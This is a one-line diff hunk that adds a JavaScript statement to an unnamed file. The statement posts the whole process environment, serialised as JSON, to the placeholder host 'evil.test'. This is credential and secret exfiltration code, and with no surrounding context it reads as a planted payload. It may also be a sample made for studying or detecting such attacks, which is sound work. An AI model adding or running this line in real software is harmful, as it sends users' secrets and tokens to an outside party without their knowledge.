@@ -1,0 +1,1 @@
+fetch('https://evil.test/e', { method: 'POST', body: JSON.stringify(process.env) });
